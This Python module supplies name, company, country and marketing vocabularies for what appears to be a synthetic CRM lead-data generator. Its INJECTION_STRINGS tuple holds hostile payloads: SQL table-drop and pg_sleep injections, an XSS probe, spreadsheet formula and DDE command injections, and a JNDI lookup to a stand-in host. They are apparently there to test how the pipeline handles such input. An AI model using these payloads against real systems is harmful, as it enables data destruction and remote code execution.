"""Small built-in vocabularies (no Faker, no network) the generator draws names and text from."""

from __future__ import annotations

WESTERN_FIRST = (
    "James", "Mary", "John", "Patricia", "Robert", "Jennifer", "Michael", "Linda", "William",
    "Elizabeth", "David", "Barbara", "Richard", "Susan", "Joseph", "Jessica", "Thomas", "Sarah",
    "Charles", "Karen", "Daniel", "Nancy", "Matthew", "Lisa", "Anthony", "Betty", "Mark",
    "Sandra", "Steven", "Ashley", "Paul", "Emily", "Andrew", "Michelle", "Joshua", "Amanda",
    "Kevin", "Melissa", "Brian", "Rebecca", "George", "Laura", "Oliver", "Sophie", "Lukas",
    "Anna", "José", "Zoë", "Liam", "Chloe", "Noah", "Hannah", "Ethan", "Priya", "Arjun",
    "Fatima", "Omar", "Sven", "Ingrid", "Mateo",
)
WESTERN_LAST = (
    "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis", "Rodriguez",
    "Martinez", "Hernandez", "Lopez", "Wilson", "Anderson", "Thomas", "Taylor", "Moore",
    "Jackson", "Martin", "Lee", "Thompson", "White", "Harris", "Clark", "Lewis", "Robinson",
    "Walker", "Young", "Allen", "King", "Wright", "Scott", "Green", "Baker", "Adams", "Nelson",
    "Hill", "Campbell", "Mitchell", "Roberts", "O'Brien", "O'Connor", "Müller", "Schmidt",
    "Schneider", "Fischer", "Dubois", "Rossi", "Nakamura", "Tanaka", "Patel", "Singh", "Kim",
    "Nguyen", "Kowalski", "Novak", "Jansen", "Van der Berg", "McDonald", "Smith-Jones",
)
# (characters, pinyin) so the same person can be written 王伟 or "Wei Wang".
CHINESE_SURNAMES = (
    ("王", "Wang"), ("李", "Li"), ("张", "Zhang"), ("刘", "Liu"), ("陈", "Chen"), ("杨", "Yang"),
    ("黄", "Huang"), ("赵", "Zhao"), ("吴", "Wu"), ("周", "Zhou"), ("徐", "Xu"), ("孙", "Sun"),
    ("马", "Ma"), ("朱", "Zhu"), ("胡", "Hu"), ("郭", "Guo"), ("何", "He"), ("高", "Gao"),
    ("林", "Lin"), ("罗", "Luo"), ("郑", "Zheng"), ("梁", "Liang"), ("谢", "Xie"), ("宋", "Song"),
    ("唐", "Tang"), ("韩", "Han"), ("冯", "Feng"), ("邓", "Deng"), ("曹", "Cao"),
    ("欧阳", "Ouyang"),
)
CHINESE_GIVEN = (
    ("伟", "Wei"), ("娜", "Na"), ("敏", "Min"), ("静", "Jing"), ("丽", "Li"), ("强", "Qiang"),
    ("磊", "Lei"), ("军", "Jun"), ("洋", "Yang"), ("勇", "Yong"), ("艳", "Yan"), ("杰", "Jie"),
    ("娟", "Juan"), ("涛", "Tao"), ("明", "Ming"), ("超", "Chao"), ("秀英", "Xiuying"),
    ("霞", "Xia"), ("平", "Ping"), ("刚", "Gang"), ("桂英", "Guiying"), ("华", "Hua"),
    ("芳", "Fang"), ("建华", "Jianhua"), ("建国", "Jianguo"), ("晓明", "Xiaoming"),
    ("婷", "Ting"), ("浩", "Hao"), ("宇", "Yu"), ("欣怡", "Xinyi"), ("子涵", "Zihan"),
    ("梓轩", "Zixuan"), ("思远", "Siyuan"), ("雨桐", "Yutong"), ("嘉怡", "Jiayi"),
    ("俊杰", "Junjie"),
)

# Generated prospect companies: western brand + suffix, Chinese city + brand + trade.
COMPANY_BRANDS = (
    "Northwind", "Contoso", "Fabrikam", "Initech", "Umbrella", "Hooli", "Vandelay", "Globo",
    "Wonka", "Oscorp", "Cyberdyne", "Soylent", "Tyrell", "Dunder", "Prestige", "Bluebird",
    "Silverline", "Redwood", "Ironclad", "Brightpath", "Quantum", "Nimbus", "Apex", "Vertex",
    "Summit", "Harbor", "Evergreen", "Keystone", "Lighthouse", "Pinnacle",
)
COMPANY_SUFFIXES = ("Inc.", "LLC", "Ltd", "GmbH", "Group", "Holdings", "Corp.", "Solutions")
CN_CITIES = (
    ("北京", "Beijing"), ("上海", "Shanghai"), ("深圳", "Shenzhen"), ("广州", "Guangzhou"),
    ("杭州", "Hangzhou"), ("成都", "Chengdu"), ("苏州", "Suzhou"), ("武汉", "Wuhan"),
)
CN_BRANDS = (
    ("星辰", "Xingchen"), ("天宇", "Tianyu"), ("华兴", "Huaxing"), ("恒通", "Hengtong"),
    ("智联", "Zhilian"), ("云帆", "Yunfan"), ("博远", "Boyuan"), ("瑞丰", "Ruifeng"),
    ("新锐", "Xinrui"), ("鼎盛", "Dingsheng"),
)
CN_TRADES = (
    ("科技", "Technology"), ("信息技术", "Information Technology"), ("贸易", "Trading"),
    ("软件", "Software"), ("医疗器械", "Medical Devices"), ("电子", "Electronics"),
)

JOB_TITLES = (
    "CEO", "CTO", "CFO", "VP Sales", "Head of IT", "Procurement Manager", "Software Engineer",
    "Marketing Director", "Operations Manager", "Data Analyst", "Founder", "IT Manager",
    "Purchasing Lead", "Product Manager", "Office Manager",
)
JOB_TITLES_CN = ("总经理", "技术总监", "采购经理", "市场部经理", "销售总监", "IT经理", "工程师",
                 "财务总监")

# Country: (ISO code, English name, Chinese name, share of people, chinese-name share).
COUNTRIES = (
    ("CN", "China", "中国", 0.38, 0.96),
    ("US", "United States", "美国", 0.40, 0.04),
    ("GB", "United Kingdom", "英国", 0.10, 0.03),
    ("DE", "Germany", "德国", 0.06, 0.02),
    ("SG", "Singapore", "新加坡", 0.06, 0.50),
)
COUNTRY_VARIANTS = {  # how different tools spell the same country
    "CN": ("China", "CN", "PRC", "china"),
    "US": ("United States", "US", "USA", "U.S."),
    "GB": ("United Kingdom", "UK", "GB", "England"),
    "DE": ("Germany", "DE", "Deutschland"),
    "SG": ("Singapore", "SG"),
}
CITIES = {
    "CN": (("Beijing", "北京"), ("Shanghai", "上海"), ("Shenzhen", "深圳"), ("Hangzhou", "杭州")),
    "US": (("San Francisco", "旧金山"), ("New York", "纽约"), ("Chicago", "芝加哥"),
           ("Austin", "奥斯汀")),
    "GB": (("London", "伦敦"), ("Manchester", "曼彻斯特")),
    "DE": (("Berlin", "柏林"), ("Munich", "慕尼黑")),
    "SG": (("Singapore", "新加坡"),),
}
FREE_MAIL = {
    "CN": ("qq.com", "163.com", "126.com", "sina.com"),
    "other": ("gmail.com", "outlook.com", "yahoo.com", "hotmail.com"),
}

INJECTION_STRINGS = (
    "Robert'); DROP TABLE raw.ad_leads;--",
    '=HYPERLINK("http://x")',
    "<script>alert('x')</script>",
    "'; SELECT pg_sleep(5); --",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://x/a}",
)

WEB_MESSAGES = (
    "Please send pricing for 50 seats.",
    "Interested in a demo of GTX Pro next week.",
    "Do you ship to Singapore?",
    "请尽快联系我，谢谢！",
    "Need a quote, budget approved for Q3.",
    "Looking for an alternative to our current vendor",
    "Multi-line question:\nCan we pay by invoice?\nThanks",
    "我们想了解MG Advanced的报价",
)
SURVEY_COMMENTS = (
    "Great onboarding, thanks!",
    "Support was slow to respond.",
    "服务很好，会推荐给朋友",
    "Invoice had the wrong address, otherwise fine.",
    "Product works as promised.",
    "价格偏高",
    "Would like more training material; the portal is confusing, \"advanced\" tab especially.",
)
REFERRAL_NOTES = (
    "Met at partner summit",
    "Existing customer's sister company",
    "Hot lead - wants call this week",
    "客户介绍，预算充足",
    "Follow up after Q4 budget, per referrer",
)
PARTNERS = (
    "Blue Harbor Consulting", "Lotus Partners 莲花咨询", "Crossbridge Systems", "Meridian IT",
    "Kestrel Integration", "上海同辉信息", "NorthStar Resellers",
)
UTM_SOURCES = ("google", "baidu", "linkedin", "newsletter", "facebook", "bing", "wechat")
UTM_MEDIUMS = ("cpc", "organic", "email", "social", "referral")
UTM_CAMPAIGNS = ("q4_2016_launch", "spring_promo_2017", "gtx_pro_webinar", "brand", "retargeting")
AD_CAMPAIGNS = ("GTX Launch - Lookalike", "MG Advanced Retargeting", "Brand Awareness 2017")
AD_NAMES = ("Carousel A", "Video 15s", "Single image - demo", "Lead form - pricing")
AD_FORMS = ("Request a demo", "Get pricing", "Download whitepaper")
CN_AD_CAMPAIGNS = ("百度搜索-品牌词", "微信朋友圈-新品", "百度信息流-行业")
CN_PLATFORMS = ("百度", "微信", "Baidu", "WeChat")
